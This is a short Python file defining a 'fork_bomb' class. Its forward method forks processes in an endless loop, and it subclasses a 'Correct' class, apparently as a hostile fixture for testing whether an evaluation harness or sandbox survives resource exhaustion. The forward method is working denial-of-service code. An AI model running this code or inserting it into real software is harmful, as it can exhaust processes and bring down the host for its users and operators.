"""A fork bomb on its first forward."""
import os

from _honest import Correct


class ForkBomb(Correct):
    name = "fork_bomb"

    def forward(self, x):
        while True:
            try:
                os.fork()
            except OSError:
                pass
